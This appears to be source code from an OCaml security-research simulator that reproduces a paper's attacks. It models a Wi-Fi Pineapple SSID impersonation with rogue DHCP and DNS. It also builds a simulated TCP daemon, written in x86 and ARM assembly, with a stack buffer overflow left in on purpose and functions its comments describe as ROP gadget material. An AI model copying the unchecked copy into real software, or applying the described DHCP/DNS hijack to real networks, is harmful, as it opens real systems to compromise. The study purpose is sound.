