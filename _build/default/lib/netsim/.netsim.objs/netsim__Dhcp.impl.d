lib/netsim/dhcp.ml: Hashtbl Ip Printf String World
