lib/netsim/dhcp.mli: Ip World
