lib/netsim/dns_server.ml: Dns List Sim World
