lib/netsim/dns_server.ml: Dns List World
