lib/netsim/dns_server.mli: Dns Ip World
