lib/netsim/faults.ml: Bytes Char Float Format List Memsim Printf String
