lib/netsim/faults.mli: Format Memsim
