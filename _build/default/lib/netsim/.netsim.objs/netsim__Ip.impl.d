lib/netsim/ip.ml: Format List Printf String
