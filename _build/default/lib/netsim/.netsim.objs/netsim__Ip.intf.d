lib/netsim/ip.mli: Format
