lib/netsim/sim.ml: Array Memsim
