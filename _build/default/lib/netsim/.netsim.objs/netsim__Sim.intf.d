lib/netsim/sim.mli: Memsim
