lib/netsim/wifi.ml: List World
