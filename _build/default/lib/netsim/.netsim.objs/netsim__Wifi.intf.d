lib/netsim/wifi.mli: World
