lib/netsim/world.ml: Faults Hashtbl Ip List Option Queue Sim
