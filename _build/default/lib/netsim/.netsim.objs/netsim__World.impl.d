lib/netsim/world.ml: Ip List Memsim Option Sim
