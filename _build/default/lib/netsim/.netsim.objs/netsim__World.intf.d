lib/netsim/world.mli: Faults Ip Sim
