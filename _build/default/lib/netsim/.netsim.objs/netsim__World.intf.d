lib/netsim/world.mli: Ip Sim
