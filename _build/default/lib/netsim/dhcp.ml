(* Wire format (simulation-private, documented in the mli): DISCOVER
   carries the client host name; OFFER echoes it with the lease. *)

let discover name = "DHCPDISCOVER " ^ name

let offer ~client ~ip ~dns =
  Printf.sprintf "DHCPOFFER %s %s %s" client (Ip.to_string ip) (Ip.to_string dns)

let serve _world host ~first_ip ~dns =
  let next = ref first_ip in
  let leases = Hashtbl.create 8 in
  World.on_udp host ~port:67 (fun ctx dgram ->
      match String.split_on_char ' ' dgram.World.payload with
      | [ "DHCPDISCOVER"; client ] ->
          let ip =
            match Hashtbl.find_opt leases client with
            | Some ip -> ip
            | None ->
                let ip = !next in
                incr next;
                Hashtbl.replace leases client ip;
                ip
          in
          World.send ctx.World.world ~from:host ~sport:67 ~dst:Ip.broadcast
            ~dport:68
            (offer ~client ~ip ~dns)
      | _ -> ())

let solicit world host ?(on_configured = fun _ -> ()) () =
  World.on_udp host ~port:68 (fun ctx dgram ->
      match String.split_on_char ' ' dgram.World.payload with
      | [ "DHCPOFFER"; client; ip; dns ] when client = World.host_name host ->
          World.set_host_ip host (Some (Ip.of_string ip));
          World.set_host_dns host (Some (Ip.of_string dns));
          on_configured ctx
      | _ -> ());
  World.send world ~from:host ~sport:68 ~dst:Ip.broadcast ~dport:67
    (discover (World.host_name host))
