(** Minimal DHCP (DISCOVER/OFFER over UDP 67/68).

    The protocol detail that matters for the reproduction is the {e DNS
    server option}: whoever runs DHCP on the joined LAN decides where the
    victim's DNS queries go.  The Pineapple's DHCP hands out the
    attacker's resolver (§III-D: "configure it to utilize DHCP to assign
    our malicious DNS server to clients"). *)

val serve :
  World.t -> World.host -> first_ip:Ip.t -> dns:Ip.t -> unit
(** Run a DHCP server on [host] (port 67): leases sequential addresses
    starting at [first_ip] and advertises [dns]. *)

val solicit :
  World.t -> World.host -> ?on_configured:(World.ctx -> unit) -> unit -> unit
(** DHCP client: broadcast a DISCOVER and, on the matching OFFER (port
    68), adopt the leased address and DNS server, then invoke
    [on_configured]. *)
