let reply ctx dgram response =
  World.send ctx.World.world ~from:ctx.World.self ~sport:53
    ~dst:dgram.World.src ~dport:dgram.World.sport response

let resolver ?(cnames = []) _world host ~zone =
  World.on_udp host ~port:53 (fun ctx dgram ->
      match Dns.Packet.decode dgram.World.payload with
      | Error _ -> ()
      | Ok query -> (
          match query.Dns.Packet.questions with
          | [ q ] ->
              (* Chase CNAMEs within the local zone (bounded), answering
                 with the chain plus the terminal A record, as a real
                 recursive resolver does. *)
              let rec chase name chain hops =
                if hops > 4 then List.rev chain
                else
                  match List.assoc_opt name cnames with
                  | Some target ->
                      chase target
                        (Dns.Packet.cname_record (Dns.Name.of_string name)
                           ~ttl:300
                           ~target:(Dns.Name.of_string target)
                        :: chain)
                        (hops + 1)
                  | None -> (
                      match List.assoc_opt name zone with
                      | Some ip ->
                          List.rev
                            (Dns.Packet.a_record (Dns.Name.of_string name)
                               ~ttl:300 ~ipv4:ip
                            :: chain)
                      | None -> List.rev chain)
              in
              let answers =
                match q.Dns.Packet.qtype with
                | Dns.Packet.A ->
                    chase (Dns.Name.to_string q.Dns.Packet.qname) [] 0
                | _ -> []
              in
              reply ctx dgram (Dns.Packet.encode (Dns.Packet.response ~query answers))
          | _ -> ()))

let malicious _world host ~forge =
  World.on_udp host ~port:53 (fun ctx dgram ->
      match Dns.Packet.decode dgram.World.payload with
      | Error _ -> ()
      | Ok query -> (
          match forge ~query ~raw:dgram.World.payload with
          | Some response -> reply ctx dgram response
          | None -> ()))
