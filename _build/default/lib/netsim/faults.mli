(** Deterministic per-link network impairments.

    A {!policy} describes what a link does to each datagram crossing it:
    drop it, corrupt a byte, duplicate it, delay it (with jitter), hold
    it back so later traffic overtakes it, or black-hole it entirely
    while the link is flapped down.  Policies are pure data; every
    random decision is drawn from the {!Memsim.Rng} handed to {!apply}
    in a documented, fixed order, so identical seeds give bit-identical
    impairment traces — the property the chaos campaign and the
    seed-determinism test suite rely on.

    {!World} attaches policies per host-pair, per LAN, or world-wide,
    and consults {!apply} once per (datagram, receiver) pair. *)

type latency =
  | Const of int  (** fixed propagation delay, µs *)
  | Uniform of { lo : int; hi : int }
      (** uniform in [lo, hi): one [Rng.int (hi - lo)] draw *)
  | Jitter of { base : int; jitter : int }
      (** base ± jitter (clamped to 0): one [Rng.int (2*jitter + 1)] draw *)

type policy = {
  drop : float;  (** per-datagram drop probability, [0, 1] *)
  duplicate : float;  (** probability a second copy is queued *)
  corrupt : float;  (** probability one payload byte is flipped *)
  reorder : float;
      (** probability the datagram is held back by an extra delay drawn
          from [0, reorder_window_us], letting later traffic overtake it *)
  reorder_window_us : int;
  latency : latency;
  flaps : (int * int) list;
      (** [(from, until)] µs windows (absolute sim time) during which the
          link is down: datagrams sent inside a window are black-holed
          with no randomness consumed *)
}

val default : policy
(** No impairments; latency [Uniform {lo = 200; hi = 800}] — exactly the
    delivery jitter the pre-fault-layer world applied, so a world with
    only default policies replays historical traces bit-for-bit. *)

val lossy : float -> policy
(** [default] with the given drop probability. *)

val validate : policy -> policy
(** Returns the policy unchanged, or raises [Invalid_argument] naming
    the offending field (probability outside [0, 1], negative window,
    empty or inverted latency range, inverted flap window). *)

val pp : Format.formatter -> policy -> unit

type fate =
  | Pass  (** at least one copy is queued for delivery *)
  | Drop_fault  (** the drop probability fired *)
  | Drop_link  (** the link was flapped down — no randomness consumed *)

type plan = {
  copies : (int * string) list;
      (** (total delay µs, payload) per queued copy — two entries when
          duplicated, none when dropped *)
  fate : fate;
  corrupted : bool;
  duplicated : bool;
  reordered : bool;
}

val link_up : policy -> now:int -> bool

val apply : Memsim.Rng.t -> policy -> now:int -> payload:string -> plan
(** Decide one datagram's fate.  Draw order is fixed: flap check (no
    draw), drop, latency, corruption (position, then xor byte),
    duplication (plus the copy's own latency draw), reorder (extra
    delay draw).  Gated draws consume randomness only when their
    probability is strictly positive, so a default policy draws exactly
    one latency value per datagram. *)
