type t = int

let of_string s =
  match String.split_on_char '.' s |> List.map int_of_string_opt with
  | [ Some a; Some b; Some c; Some d ]
    when List.for_all (fun x -> x >= 0 && x <= 255) [ a; b; c; d ] ->
      (a lsl 24) lor (b lsl 16) lor (c lsl 8) lor d
  | _ -> invalid_arg ("Ip.of_string: " ^ s)
  | exception _ -> invalid_arg ("Ip.of_string: " ^ s)

let to_string t =
  Printf.sprintf "%d.%d.%d.%d"
    ((t lsr 24) land 0xFF)
    ((t lsr 16) land 0xFF)
    ((t lsr 8) land 0xFF)
    (t land 0xFF)

let broadcast = 0xFFFF_FFFF
let pp ppf t = Format.pp_print_string ppf (to_string t)
