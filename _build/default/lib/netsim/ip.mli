(** IPv4 addresses as host-order integers. *)

type t = int

val of_string : string -> t
(** ["192.168.1.10"] → the 32-bit value.  Raises [Invalid_argument] on
    malformed input. *)

val to_string : t -> string
val broadcast : t
(** 255.255.255.255 — LAN-wide delivery. *)

val pp : Format.formatter -> t -> unit
