(** Discrete-event simulation clock.

    Events fire in timestamp order (FIFO among equal timestamps), each
    receiving the simulator so it can schedule follow-ups.  Time is in
    microseconds. *)

type t

val create : ?seed:int -> unit -> t
val now : t -> int
val rng : t -> Memsim.Rng.t

val schedule : t -> delay:int -> (t -> unit) -> unit
(** [delay] is relative to [now]; negative delays are clamped to 0. *)

val run : ?until:int -> t -> int
(** Process events until the queue empties (or simulated time passes
    [until]).  Returns the number of events processed. *)

val pending : t -> int
