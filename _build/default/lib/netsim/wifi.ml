type ap = {
  ap_name : string;
  ssid : string;
  signal_dbm : int;
  lan : World.lan;
}

let ap ~name ~ssid ~signal_dbm lan = { ap_name = name; ssid; signal_dbm; lan }

let scan aps ~ssid =
  List.filter (fun a -> a.ssid = ssid) aps
  |> List.sort (fun a b -> compare b.signal_dbm a.signal_dbm)

let associate host aps ~ssid =
  match scan aps ~ssid with
  | [] -> None
  | best :: _ ->
      World.attach host best.lan;
      (* A fresh association drops the old lease. *)
      World.set_host_ip host None;
      World.set_host_dns host None;
      Some best
