(** Wi-Fi association by SSID and signal strength.

    The Pineapple attack (§III-D) rests on one radio fact: a station
    joins the {e strongest} access point broadcasting the SSID it trusts.
    The Pineapple impersonates the home SSID at higher power, so the
    victim re-associates onto the attacker's LAN without any
    configuration change. *)

type ap = {
  ap_name : string;
  ssid : string;
  signal_dbm : int;  (** e.g. -70 (weak) … -30 (strong) *)
  lan : World.lan;
}

val ap : name:string -> ssid:string -> signal_dbm:int -> World.lan -> ap

val scan : ap list -> ssid:string -> ap list
(** Matching APs, strongest first. *)

val associate : World.host -> ap list -> ssid:string -> ap option
(** Join the strongest AP carrying [ssid] (leaving the previous LAN and
    clearing the DHCP-derived ip/dns).  [None] if no AP matches. *)
