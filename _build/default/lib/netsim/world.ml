type datagram = {
  src : Ip.t;
  sport : int;
  dst : Ip.t;
  dport : int;
  payload : string;
}

type stats = { mutable delivered : int; mutable dropped : int }

type t = {
  sim : Sim.t;
  mutable lans : lan list;
  mutable hosts : host list;
  stats : stats;
  mutable loss : float;  (* per-unicast-datagram drop probability *)
}

and lan = {
  lname : string;
  mutable members : host list;
  mutable uplink : lan option;
}

and host = {
  hname : string;
  mutable hip : Ip.t option;
  mutable hdns : Ip.t option;
  mutable hlan : lan option;
  mutable handlers : (int * (ctx -> datagram -> unit)) list;
}

and ctx = { world : t; self : host }

let create ?(seed = 7) () =
  {
    sim = Sim.create ~seed ();
    lans = [];
    hosts = [];
    stats = { delivered = 0; dropped = 0 };
    loss = 0.0;
  }

let set_loss t p =
  if p < 0.0 || p > 1.0 then invalid_arg "World.set_loss: probability";
  t.loss <- p

let sim t = t.sim
let stats t = t.stats

let add_lan t ~name =
  let lan = { lname = name; members = []; uplink = None } in
  t.lans <- lan :: t.lans;
  lan

let lan_name lan = lan.lname
let set_uplink lan up = lan.uplink <- up

let add_host t ~name =
  let host = { hname = name; hip = None; hdns = None; hlan = None; handlers = [] } in
  t.hosts <- host :: t.hosts;
  host

let host_name h = h.hname
let host_ip h = h.hip
let set_host_ip h ip = h.hip <- ip
let host_dns h = h.hdns
let set_host_dns h dns = h.hdns <- dns

let detach h =
  (match h.hlan with
  | Some lan -> lan.members <- List.filter (fun m -> m != h) lan.members
  | None -> ());
  h.hlan <- None

let attach h lan =
  detach h;
  lan.members <- h :: lan.members;
  h.hlan <- Some lan

let lan_of h = h.hlan
let hosts_of lan = List.rev lan.members

let on_udp h ~port handler =
  h.handlers <- (port, handler) :: List.remove_assoc port h.handlers

(* Unicast resolution: breadth-first over the uplink graph treated as
   undirected (replies must route back down to edge LANs, as NAT/conntrack
   state provides in the real network).  The sender's own LAN is tried
   first. *)
let resolve_unicast t lan dst =
  let neighbours l =
    (match l.uplink with Some up -> [ up ] | None -> [])
    @ List.filter
        (fun other ->
          match other.uplink with Some up -> up == l | None -> false)
        t.lans
  in
  let rec bfs visited = function
    | [] -> None
    | l :: rest ->
        if List.memq l visited then bfs visited rest
        else
          match List.find_opt (fun h -> h.hip = Some dst) l.members with
          | Some h -> Some h
          | None -> bfs (l :: visited) (rest @ neighbours l)
  in
  bfs [] [ lan ]

let deliver t dgram target =
  match List.assoc_opt dgram.dport target.handlers with
  | None -> t.stats.dropped <- t.stats.dropped + 1
  | Some handler ->
      t.stats.delivered <- t.stats.delivered + 1;
      handler { world = t; self = target } dgram

let send t ~from ?(sport = 0) ~dst ~dport payload =
  match from.hlan with
  | None -> t.stats.dropped <- t.stats.dropped + 1
  | Some lan ->
      let src = Option.value from.hip ~default:0 in
      let dgram = { src; sport; dst; dport; payload } in
      let latency () = 200 + Memsim.Rng.int (Sim.rng t.sim) 600 in
      if dst = Ip.broadcast then
        List.iter
          (fun h ->
            if h != from then
              Sim.schedule t.sim ~delay:(latency ()) (fun _ -> deliver t dgram h))
          lan.members
      else
        match resolve_unicast t lan dst with
        | Some target ->
            if t.loss > 0.0 && Memsim.Rng.float (Sim.rng t.sim) < t.loss then
              t.stats.dropped <- t.stats.dropped + 1
            else
              Sim.schedule t.sim ~delay:(latency ()) (fun _ -> deliver t dgram target)
        | None -> t.stats.dropped <- t.stats.dropped + 1

let run ?until t = Sim.run ?until t.sim
