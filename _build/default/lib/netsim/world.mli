(** The network world: LANs, hosts, and UDP datagram delivery over the
    {!Sim} event clock.

    Topology is deliberately simple — broadcast domains (LANs) with an
    optional uplink chain (home LAN → ISP/Internet) — because that is all
    the paper's §III-D scenario needs: a victim that can be lured from
    its legitimate LAN onto the Pineapple's LAN, where the attacker
    controls DHCP and DNS. *)

type t
type host
type lan

type datagram = {
  src : Ip.t;
  sport : int;
  dst : Ip.t;
  dport : int;
  payload : string;
}

type ctx = { world : t; self : host }
(** Handed to every packet handler. *)

type stats = { mutable delivered : int; mutable dropped : int }

val create : ?seed:int -> unit -> t
val sim : t -> Sim.t
val stats : t -> stats

val set_loss : t -> float -> unit
(** Per-unicast-datagram drop probability (default 0.0); broadcasts are
    unaffected.  Drops count in {!stats}. *)

val add_lan : t -> name:string -> lan
val lan_name : lan -> string
val set_uplink : lan -> lan option -> unit
(** Datagrams that miss in a LAN are retried in its uplink (transitively). *)

val add_host : t -> name:string -> host
val host_name : host -> string
val host_ip : host -> Ip.t option
val set_host_ip : host -> Ip.t option -> unit
val host_dns : host -> Ip.t option
val set_host_dns : host -> Ip.t option -> unit

val attach : host -> lan -> unit
(** Joining a LAN implicitly leaves the previous one. *)

val detach : host -> unit
val lan_of : host -> lan option
val hosts_of : lan -> host list

val on_udp : host -> port:int -> (ctx -> datagram -> unit) -> unit
(** Replaces any previous handler on that port. *)

val send :
  t -> from:host -> ?sport:int -> dst:Ip.t -> dport:int -> string -> unit
(** Queue a datagram.  Unicast resolves within the sender's LAN and then
    its uplink chain; {!Ip.broadcast} reaches every other host of the
    sender's LAN.  Unroutable datagrams are counted as drops. *)

val run : ?until:int -> t -> int
(** Drive the event loop; returns events processed. *)
