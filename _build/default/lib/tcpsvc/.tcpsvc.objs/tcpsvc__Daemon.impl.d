lib/tcpsvc/daemon.ml: Char Defense Format Loader Machine Memsim Printf Program_arm Program_x86 String
