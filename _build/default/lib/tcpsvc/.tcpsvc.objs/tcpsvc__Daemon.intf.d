lib/tcpsvc/daemon.mli: Defense Format Loader Machine
