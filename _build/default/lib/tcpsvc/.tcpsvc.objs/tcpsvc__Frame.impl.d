lib/tcpsvc/frame.ml: Loader Machine
