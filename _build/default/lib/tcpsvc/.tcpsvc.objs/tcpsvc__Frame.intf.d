lib/tcpsvc/frame.mli: Loader Machine
