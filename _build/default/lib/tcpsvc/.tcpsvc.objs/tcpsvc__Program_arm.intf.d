lib/tcpsvc/program_arm.mli: Defense Loader
