lib/tcpsvc/program_x86.mli: Defense Loader
