(** The tcpsvc-sim daemon: a framed binary TCP service.

    Message format: two magic bytes ['Z''Z'], a big-endian u16 tag
    length, then the tag.  The daemon checks the magic host-side (its
    accept loop) and hands the frame to the vulnerable machine code. *)

type disposition =
  | Handled
  | Rejected of string  (** bad magic / oversized datagram, or the patched
                            build's length check *)
  | Crashed of Machine.Outcome.stop_reason
  | Compromised of Machine.Outcome.stop_reason
  | Blocked of Machine.Outcome.stop_reason

val pp_disposition : Format.formatter -> disposition -> unit

type config = {
  patched : bool;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
}

type t

val create : config -> t
val process : t -> Loader.Process.t
val alive : t -> bool

val frame : tag:string -> string
(** Build a wire message carrying [tag] verbatim. *)

val handle_frame : t -> string -> disposition

val restart : t -> unit
(** Reboot the daemon after a crash (fresh address-space draw derived
    from the boot seed and restart count, as a supervisor restart would
    give). *)
