module F = Machine.Stack_frame

let x86 =
  {
    F.buffer_size = 512;
    off_null1 = 0x1F8;  (* parked inside the buffer tail: no NULL checks *)
    off_null2 = 0x1FC;
    off_canary = 0x208;  (* [ebp-8] *)
    off_saved = [ ("ebx", 0x20C); ("ebp", 0x210) ];
    off_ret = 0x214;
    frame_end = 0x218;
  }

let arm =
  {
    F.buffer_size = 512;
    off_null1 = 0x1F8;
    off_null2 = 0x1FC;
    off_canary = 0x200;  (* [fp-0x10] *)
    off_saved = [ ("r4", 0x210); ("fp", 0x214) ];
    off_ret = 0x218;  (* saved lr *)
    frame_end = 0x21C;
  }

let geometry = function Loader.Arch.X86 -> x86 | Loader.Arch.Arm -> arm

(* x86: 2 args (8) + return (4) + push ebp (4) + push ebx (4); buffer at
   ebp-0x210.  ARM: push {r4, fp, lr} (12); buffer at fp-0x210. *)
let buffer_addr proc =
  let top = proc.Loader.Process.layout.Loader.Layout.stack_top - 0x100 in
  match proc.Loader.Process.arch with
  | Loader.Arch.X86 -> top - 16 - 0x210
  | Loader.Arch.Arm -> top - 12 - 0x210
