(** Frame geometry of tcpsvc-sim's [handle_frame] — the §V "crafted TCP
    packet" target (CVE-2018-20410 class): a 512-byte tag buffer copied
    from a length-framed binary message, where the attacker's bytes reach
    the stack {e verbatim} (no DNS label-length constraint). *)

val geometry : Loader.Arch.t -> Machine.Stack_frame.t
val buffer_addr : Loader.Process.t -> int
