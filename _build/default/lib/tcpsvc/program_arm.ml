open Isa_arm
open Isa_arm.Insn

let entry = "handle_frame"
let i op = Asm.I (al op)

(* See Program_x86 for the message format.  Frame (see Frame.arm):
   [fp-0x210 .. fp-0x11] tag buffer   [fp-0x10] canary
   saved {r4, fp, lr} at [fp .. fp+8] *)
let handle_frame ~patched ~canary =
  [
    Asm.Label "handle_frame";
    i (Push [ R4; R11; LR ]);
    i (Mov (R11, Reg SP));
    i (Sub (SP, SP, Imm 0x210));
  ]
  @ (if canary then
       [
         Asm.Ldr_sym (R3, "hf.lit_canary");
         i (Ldr (R3, R3, 0));
         i (Str (R3, R11, -0x10));
       ]
     else [])
  @ [
      i (Ldrb (R2, R0, 2));
      i (Mov (R2, Lsl (R2, 8)));
      i (Ldrb (R3, R0, 3));
      i (Add (R2, R2, Reg R3));
    ]
  @ (if patched then
       [ i (Cmp (R2, Imm 512)); Asm.B_sym (GT, "hf.reject") ]
     else [])
  @ [
      i (Add (R1, R0, Imm 4));
      i (Sub (R4, R11, Imm 0x210));
      Asm.Label "hf.copy";
      i (Cmp (R2, Imm 0));
      Asm.B_sym (EQ, "hf.done");
      i (Ldrb (R3, R1, 0));
      i (Strb (R3, R4, 0));
      i (Add (R1, R1, Imm 1));
      i (Add (R4, R4, Imm 1));
      i (Sub (R2, R2, Imm 1));
      Asm.B_sym (AL, "hf.copy");
      Asm.Label "hf.done";
      i (Mov (R0, Imm 0));
      Asm.B_sym (AL, "hf.out");
      Asm.Label "hf.reject";
      i (Mvn (R0, Imm 0));
      Asm.Label "hf.out";
    ]
  @ (if canary then
       [
         Asm.Ldr_sym (R3, "hf.lit_canary");
         i (Ldr (R3, R3, 0));
         i (Ldr (R2, R11, -0x10));
         i (Cmp (R2, Reg R3));
         Asm.B_sym (NE, "hf.smashed");
       ]
     else [])
  @ [ i (Mov (SP, Reg R11)); i (Pop [ R4; R11; PC ]) ]
  @ (if canary then
       [ Asm.Label "hf.smashed"; Asm.Bl_sym "__stack_chk_fail@plt" ]
     else [])
  @
  if canary then [ Asm.Label "hf.lit_canary"; Asm.Word_sym "__canary" ] else []

let log_copy =
  [
    Asm.Label "log_copy";
    i (Push [ R4; LR ]);
    i (Mov (R1, Reg R0));
    Asm.Ldr_sym (R0, "lc.lit_bss");
    i (Add (R0, R0, Imm 0x300));
    i (Mov (R2, Imm 32));
    Asm.Bl_sym "memcpy@plt";
    i (Pop [ R4; PC ]);
    Asm.Label "lc.lit_bss";
    Asm.Word_sym "__bss_start";
  ]

let run_helper =
  [
    Asm.Label "run_helper";
    i (Push [ R4; LR ]);
    Asm.Ldr_sym (R0, "rh.lit_notify");
    i (Mov (R1, Imm 0));
    Asm.Bl_sym "execlp@plt";
    i (Pop [ R4; PC ]);
    Asm.Label "rh.lit_notify";
    Asm.Word_sym "str_notify";
  ]

(* Event-loop context restore + indirect dispatch: the gadget inventory. *)
let io_dispatch =
  [
    Asm.Label "io_dispatch";
    i (Push [ R0; R1; R2; R3; R5; R6; R7; LR ]);
    i (Mov (R0, Imm 0));
    i (Pop [ R0; R1; R2; R3; R5; R6; R7; PC ]);
  ]

let call_cb =
  [
    Asm.Label "call_cb";
    i (Push [ R4; LR ]);
    i (Blx_r R3);
    i (Pop [ R4; PC ]);
  ]

let rodata ~patched =
  [
    Asm.Align 4;
    Asm.Label "str_version";
    Asm.Bytes (Printf.sprintf "tcpsvc %s\x00" (if patched then "1.1" else "1.0"));
    Asm.Label "str_notify";
    Asm.Bytes "/usr/bin/svc-notify\x00";
    Asm.Label "str_sock";
    Asm.Bytes "/var/run/tcpsvc.sock\x00";
    Asm.Label "str_hello";
    Asm.Bytes "hello from tcpsvc shim\x00";
    Asm.Align 4;
  ]

let spec ~patched ~profile =
  let canary = profile.Defense.Profile.canary in
  let program =
    handle_frame ~patched ~canary
    @ log_copy @ run_helper @ io_dispatch @ call_cb @ rodata ~patched
  in
  {
    Loader.Process.name = (if patched then "tcpsvc-1.1" else "tcpsvc-1.0");
    code = Loader.Process.Arm_code program;
    imports = [ "memcpy"; "execlp"; "exit"; "abort"; "__stack_chk_fail" ];
    bss_size = 0x2000;
  }
