open Isa_x86
open Isa_x86.Insn

let entry = "handle_frame"

let ebp_off d = Mem { base = Some EBP; disp = d }
let at r = Mem { base = Some r; disp = 0 }

(* --- handle_frame(buf, len) ---------------------------------------------
   Message: 'Z' 'Z' | tag_len (u16 BE) | tag bytes.  The tag is copied into
   a 512-byte stack buffer; vulnerable builds never check tag_len.
   Frame (offsets from the buffer, see Frame.x86):
     [ebp-0x210 .. ebp-0x11] tag buffer   [ebp-8] canary   [ebp-4] ebx *)
let handle_frame ~patched ~canary =
  [
    Asm.Label "handle_frame";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r EBX);
    Asm.I (Sub_i (Reg ESP, 0x20C));
  ]
  @ (if canary then
       [
         Asm.Mov_ri_sym (EAX, "__canary");
         Asm.I (Mov (Reg EAX, at EAX));
         Asm.I (Mov (ebp_off (-8), Reg EAX));
       ]
     else [])
  @ [
      Asm.I (Mov (Reg EDX, ebp_off 8));
      Asm.I (Movzx_b (EAX, Mem { base = Some EDX; disp = 2 }));
      Asm.I (Shl_i (EAX, 8));
      Asm.I (Movzx_b (ECX, Mem { base = Some EDX; disp = 3 }));
      Asm.I (Add (Reg EAX, Reg ECX));
    ]
  @ (if patched then
       [ Asm.I (Cmp_i (Reg EAX, 512)); Asm.Jcc (G, "hf.reject") ]
     else [])
  @ [
      Asm.I (Add_i (Reg EDX, 4));
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x210 }));
      Asm.Label "hf.copy";
      Asm.I (Cmp_i (Reg EAX, 0));
      Asm.Jcc (E, "hf.done");
      Asm.I (Movzx_b (EBX, at EDX));
      Asm.I (Mov_b (at ECX, Reg EBX));
      Asm.I (Inc_r EDX);
      Asm.I (Inc_r ECX);
      Asm.I (Dec_r EAX);
      Asm.Jmp "hf.copy";
      Asm.Label "hf.done";
      Asm.I (Xor (Reg EAX, Reg EAX));
      Asm.Jmp "hf.out";
      Asm.Label "hf.reject";
      Asm.I (Mov_ri (EAX, 0xFFFFFFFF));
      Asm.Label "hf.out";
    ]
  @ (if canary then
       [
         Asm.I (Mov (Reg ECX, ebp_off (-8)));
         Asm.Mov_ri_sym (EDX, "__canary");
         Asm.I (Mov (Reg EDX, at EDX));
         Asm.I (Cmp (Reg ECX, Reg EDX));
         Asm.Jcc (NE, "hf.smashed");
       ]
     else [])
  @ [
      Asm.I (Add_i (Reg ESP, 0x20C));
      Asm.I (Pop_r EBX);
      Asm.I (Pop_r EBP);
      Asm.I Ret;
    ]
  @
  if canary then [ Asm.Label "hf.smashed"; Asm.Call "__stack_chk_fail@plt" ]
  else []

(* log_copy(dst, src, n): archive a frame into the .bss ring via memcpy —
   keeps memcpy@plt referenced, as the ROP chain needs. *)
let log_copy =
  [
    Asm.Label "log_copy";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_i 32);
    Asm.I (Push_m { base = Some EBP; disp = 8 });
    Asm.Mov_ri_sym (EAX, "__bss_start");
    Asm.I (Add_i (Reg EAX, 0x300));
    Asm.I (Push_r EAX);
    Asm.Call "memcpy@plt";
    Asm.I (Add_i (Reg ESP, 12));
    Asm.I (Pop_r EBP);
    Asm.I Ret;
  ]

(* run_helper(): the service's external notifier (execlp@plt carrier). *)
let run_helper =
  [
    Asm.Label "run_helper";
    Asm.I (Push_i 0);
    Asm.Push_sym "str_notify";
    Asm.Call "execlp@plt";
    Asm.I (Add_i (Reg ESP, 8));
    Asm.I Ret;
  ]

(* Conventional multi-pop epilogue (pppr raw material). *)
let session_teardown =
  [
    Asm.Label "session_teardown";
    Asm.I (Push_r EBX);
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg EAX, Mem { base = Some ESP; disp = 16 }));
    Asm.I (Test_rr (EAX, EAX));
    Asm.I (Pop_r EDI);
    Asm.I (Pop_r ESI);
    Asm.I (Pop_r EBX);
    Asm.I Ret;
  ]

let rodata ~patched =
  [
    Asm.Align 4;
    Asm.Label "str_version";
    Asm.Bytes (Printf.sprintf "tcpsvc %s\x00" (if patched then "1.1" else "1.0"));
    Asm.Label "str_notify";
    Asm.Bytes "/usr/bin/svc-notify\x00";
    Asm.Label "str_sock";
    Asm.Bytes "/var/run/tcpsvc.sock\x00";
    Asm.Label "str_hello";
    Asm.Bytes "hello from tcpsvc shim\x00";
  ]

let spec ~patched ~profile =
  let canary = profile.Defense.Profile.canary in
  let program =
    handle_frame ~patched ~canary
    @ log_copy @ run_helper @ session_teardown @ rodata ~patched
  in
  {
    Loader.Process.name = (if patched then "tcpsvc-1.1" else "tcpsvc-1.0");
    code = Loader.Process.X86_code program;
    imports = [ "memcpy"; "execlp"; "exit"; "abort"; "__stack_chk_fail" ];
    bss_size = 0x2000;
  }
