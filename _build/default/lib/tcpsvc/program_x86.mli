(** tcpsvc-sim for x86-32: the §V "crafted TCP packet" overflow target
    (CVE-2018-20410 class) — a length-framed binary protocol whose tag
    field is copied unchecked into a 512-byte stack buffer.  Unlike the
    DNS carriers, payload bytes arrive verbatim: no label-layout planning
    is needed. *)

val spec : patched:bool -> profile:Defense.Profile.t -> Loader.Process.spec
val entry : string
