test/test_cache.ml: Alcotest Connman Dns Gen List Printf QCheck QCheck_alcotest
