test/test_cache.ml: Alcotest Array Connman Dns Gen Hashtbl List Memsim Printf QCheck QCheck_alcotest
