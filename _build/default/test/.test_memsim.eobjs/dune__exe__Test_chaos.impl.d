test/test_chaos.ml: Alcotest Connman Core Defense Dns Dnsmasq List Loader Netsim Option Printf String
