test/test_connman.ml: Alcotest Buffer Bytes Char Connman Defense Dns Dnsproxy Frame Gen List Loader Machine Memsim Printf QCheck QCheck_alcotest String Version
