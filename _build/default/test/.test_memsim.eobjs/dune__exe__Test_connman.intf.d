test/test_connman.mli:
