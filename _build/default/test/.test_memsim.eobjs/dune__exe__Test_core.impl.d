test/test_core.ml: Alcotest Connman Core Defense Device Experiments Exploit Firmware Format Gen List Loader Machine Netsim Option Printf QCheck QCheck_alcotest Scenario Stats String
