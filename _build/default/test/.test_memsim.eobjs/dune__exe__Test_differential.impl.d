test/test_differential.ml: Alcotest Array Defense Gen Isa_arm Isa_x86 List Machine Memsim QCheck QCheck_alcotest String
