test/test_differential.ml: Alcotest Array Connman Defense Dns Exploit Format Gen Isa_arm Isa_x86 List Loader Machine Memsim QCheck QCheck_alcotest String
