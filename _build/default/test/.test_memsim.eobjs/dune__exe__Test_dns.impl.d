test/test_dns.ml: Alcotest Array Char Craft Dns Fun List Name Packet QCheck QCheck_alcotest Result String
