test/test_dnsmasq.ml: Alcotest Autogen Char Connman Defense Dns Dnsmasq Exploit List Loader Machine Memsim Result String Target
