test/test_dnsmasq.mli:
