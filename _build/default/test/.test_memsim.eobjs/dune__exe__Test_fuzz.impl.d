test/test_fuzz.ml: Alcotest Buffer Char Connman Dns Gen Isa_arm Isa_x86 List Machine QCheck QCheck_alcotest String
