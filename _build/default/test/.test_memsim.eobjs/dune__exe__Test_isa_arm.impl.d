test/test_isa_arm.ml: Alcotest Asm Cpu Decode Encode Fun Insn Isa_arm List Machine Memsim Printf QCheck QCheck_alcotest String
